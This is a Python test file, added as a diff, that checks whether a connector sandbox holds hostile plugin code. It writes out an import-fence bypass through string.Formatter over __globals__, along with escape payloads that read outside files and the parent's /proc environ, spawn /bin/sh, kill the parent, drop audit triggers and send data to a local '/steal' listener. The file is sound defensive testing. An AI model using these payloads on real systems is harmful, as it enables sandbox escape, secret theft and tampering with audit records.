@@ -1,0 +1,265 @@
+"""Hostile Python connectors: each passes the import fence, then tries to break a promise from
+inside its own code. The sandbox must hold whatever the code does: no byte reaches a listener
+except through the guard to a declared origin, the audit log and its triggers stay intact, no
+file outside the connector's folder is read or written, and the environment is not readable.
+
+Every connector reaches ``sys`` the way a reviewer did (``string.Formatter().get_field`` over a
+function's ``__globals__``), which the fence cannot see, and then has the whole standard
+library: the test is that the operating system refuses, not that a string is caught.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import sqlite3
+import textwrap
+import threading
+from collections.abc import Iterator
+from contextlib import closing, suppress
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from skiptrace.audit import AuditLog
+from skiptrace.cli import app
+from skiptrace.connectors._confine import unavailable
+from skiptrace.connectors._registry import load_manifest
+from skiptrace.connectors._sandbox import Mode
+from skiptrace.policy import Policy
+from skiptrace.records import Query
+from skiptrace.research.run import Run
+from skiptrace.testing.replay import ReplayServer, Reply
+
+pytestmark = pytest.mark.skipif(
+    bool(unavailable()), reason=f"no sandbox on this machine: {unavailable()}"
+)
+
+PRELUDE = """
+import dataclasses
+import string
+
+from skiptrace.connectors import Query, Session, SourceRecord
+
+SYS = string.Formatter().get_field("0.__globals__[sys]", (dataclasses.dataclass,), {})[0]
+LOAD = SYS.modules["importlib"].import_module
+BUILTINS = SYS.modules["builtins"]
+
+
+def attempt(action):
+    try:
+        result = action()
+    except BaseException as exc:  # noqa: BLE001
+        return "refused " + repr(exc)[:80]
+    return "refused -1" if result == -1 else "OPEN " + repr(result)[:200]  # -1: a syscall's no
+"""
+
+TEMPLATE = """
+class Hostile:
+    async def search(self, session: Session, query: Query) -> list[SourceRecord]:
+        page = await session.get("https://hostile.example/start", {{"q": query.get("employer")}})
+        outcome = attempt(lambda: {action})
+        return [SourceRecord(session.provenance(page), person_name="outcome", employer=outcome)]
+
+
+CONNECTOR = Hostile()
+"""
+
+MANIFEST = """id = "hostile"
+name = "hostile"
+version = "1"
+gives = ["employer"]
+needs = ["employer"]
+terms = "https://hostile.example/terms"
+origins = ["https://hostile.example"]
+python = "hostile.py"
+"""
+
+
+class Listener:
+    """A TCP listener on loopback that counts the bytes anyone sends it (bounded lifetime)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received = 0
+        self.connections = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except TimeoutError:
+                continue
+            self.connections += 1
+            with conn:
+                conn.settimeout(0.5)
+                with suppress(OSError):
+                    self.received += len(conn.recv(65536))
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(2)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    bait = Listener()
+    yield bait
+    bait.close()
+
+
+@pytest.fixture
+def secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path | str]:
+    """A file outside the connector's folder, a place to plant one, and a secret in the env."""
+    secret = tmp_path / "outside" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text("the-secret-contents", encoding="utf-8")
+    monkeypatch.setenv("COMPANIES_HOUSE_API_KEY", "secret-api-key-123")
+    return {"secret": secret, "planted": tmp_path / "outside" / "planted.txt"}
+
+
+def _connector(folder: Path, action: str, prelude_extra: str = "") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "hostile.toml").write_text(MANIFEST, encoding="utf-8")
+    source = PRELUDE + prelude_extra + TEMPLATE.format(action=action)
+    (folder / "hostile.py").write_text(textwrap.dedent(source), encoding="utf-8")
+    return folder / "hostile.toml"
+
+
+def _run(manifest: Path, policy: Policy, audit: AuditLog) -> tuple[str, str, list[str]]:
+    connector = load_manifest(manifest)  # the fence lets it through
+    assert getattr(connector, "mode", None) == Mode.SANDBOXED
+    start = Reply(200, b"{}", {"Content-Type": "application/json"})
+    with ReplayServer({"/start": start}) as origin:
+
+        async def research() -> tuple[str, str, list[str]]:
+            rewrite = {"https://hostile.example": origin.base_url}
+            async with Run(
+                policy, audit, [connector], purpose="hostile test", rewrite=rewrite
+            ) as run:
+                result = await run.search(connector, Query.of("ACCT-1", employer="Acme"))
+            return result.status, result.detail, [r.employer for r in result.records]
+
+        return asyncio.run(research())
+
+
+def _intact(audit: AuditLog) -> None:
+    assert audit.verify().ok
+    with closing(sqlite3.connect(audit.path)) as db:
+        found = db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall()
+    assert {"audit_no_update", "audit_no_delete"} <= {name for (name,) in found}
+
+
+ESCAPES = {
+    "a socket to the listener": 'LOAD("socket").create_connection(("127.0.0.1", {port}), 1)',
+    "raw socket syscall through ctypes": 'LOAD("ctypes").CDLL(None).syscall(41, 2, 1, 0)',
+    "read a file outside its folder": 'BUILTINS.open("{secret}").read()',
+    "read the parent's environment": (
+        'BUILTINS.open("/proc/" + str(LOAD("os").getppid()) + "/environ").read()'
+    ),
+    "write a file": 'BUILTINS.open("{planted}", "w").write("planted")',
+    "start a shell": 'LOAD("subprocess").run(["/bin/sh", "-c", "echo x > {planted}"]).returncode',
+    "fork": 'LOAD("os").fork()',
+    "signal the parent": 'LOAD("os").kill(LOAD("os").getppid(), 15)',
+    "drop the audit log's triggers": (
+        'LOAD("sqlite3").connect("{audit}").execute("DROP TRIGGER IF EXISTS audit_no_update")'
+    ),
+    "an HTTP client of its own": (
+        'LOAD("urllib.request").urlopen("http://127.0.0.1:{port}/x", timeout=1).read()'
+    ),
+}
+
+
+@pytest.mark.parametrize("escape", list(ESCAPES))
+def test_a_hostile_connector_cannot_escape_its_sandbox(
+    escape: str,
+    tmp_path: Path,
+    fast_policy: Policy,
+    audit: AuditLog,
+    listener: Listener,
+    secrets: dict[str, Path | str],
+) -> None:
+    action = ESCAPES[escape].format(
+        port=listener.port, secret=secrets["secret"], planted=secrets["planted"], audit=audit.path
+    )
+    status, detail, found = _run(_connector(tmp_path / "conn", action), fast_policy, audit)
+    assert status == "hit", detail
+    [outcome] = found
+    assert outcome.startswith("refused "), f"{escape}: {outcome}"
+    assert "the-secret-contents" not in outcome and "secret-api-key-123" not in outcome
+    assert listener.connections == 0 and listener.received == 0
+    assert not Path(secrets["planted"]).exists()
+    _intact(audit)
+
+
+def test_its_environment_is_empty(
+    tmp_path: Path, fast_policy: Policy, audit: AuditLog, secrets: dict[str, Path | str]
+) -> None:
+    action = 'sorted(LOAD("os").environ)'
+    _, detail, [outcome] = _run(_connector(tmp_path / "conn", action), fast_policy, audit)
+    assert "COMPANIES_HOUSE_API_KEY" not in outcome and "secret-api-key-123" not in outcome
+    assert outcome.startswith("OPEN ["), detail  # it could look, and found nothing of ours
+
+
+def test_an_undeclared_origin_is_refused_by_the_guard_and_audited(
+    tmp_path: Path, fast_policy: Policy, audit: AuditLog, listener: Listener
+) -> None:
+    folder = tmp_path / "conn"
+    _connector(folder, "None")
+    (folder / "hostile.py").write_text(
+        PRELUDE
+        + textwrap.dedent(
+            f"""
+            class Hostile:
+                async def search(self, session: Session, query: Query) -> list[SourceRecord]:
+                    name = query.get("employer")[::-1]  # reversed, past the path check
+                    await session.get("http://127.0.0.1:{listener.port}/steal", {{"n": name}})
+                    return []
+
+
+            CONNECTOR = Hostile()
+            """
+        ),
+        encoding="utf-8",
+    )
+    status, detail, _ = _run(folder / "hostile.toml", fast_policy, audit)
+    assert status == "refused" and detail.startswith("origin:"), detail
+    assert listener.connections == 0
+    refused = [row for row in audit.rows() if row.event == "refused"]
+    assert [row.rule for row in refused] == ["origin"]
+    _intact(audit)
+
+
+def test_a_forged_answer_naming_a_page_it_never_read_is_refused(
+    tmp_path: Path, fast_policy: Policy, audit: AuditLog
+) -> None:
+    forged = (
+        '(SYS.stdout.write(LOAD("json").dumps({"op": "done", "id": 1, "records": '
+        '[{"employer": "Forged Ltd", "source_url": "https://registry.example/x"}]}) + "\\n"), '
+        "SYS.stdout.flush())"
+    )
+    status, detail, found = _run(_connector(tmp_path / "conn", forged), fast_policy, audit)
+    assert status == "error" and "did not fetch" in detail, (status, detail, found)
+
+
+def test_its_code_runs_only_in_the_sandbox_never_at_discovery(
+    tmp_path: Path, fast_policy: Policy, audit: AuditLog, listener: Listener
+) -> None:
+    folder = tmp_path / "conn"
+    at_import = (
+        f'\nattempt(lambda: LOAD("socket").create_connection(("127.0.0.1", {listener.port}), 1))\n'
+    )
+    manifest = _connector(folder, "None", prelude_extra=at_import)
+    listed = CliRunner().invoke(app, ["--connectors-dir", str(folder), "connectors", "list"])
+    assert listed.exit_code == 0 and "hostile" in listed.output
+    assert listener.connections == 0
+    status, detail, _ = _run(manifest, fast_policy, audit)
+    assert status == "hit", detail
+    assert listener.connections == 0 and listener.received == 0
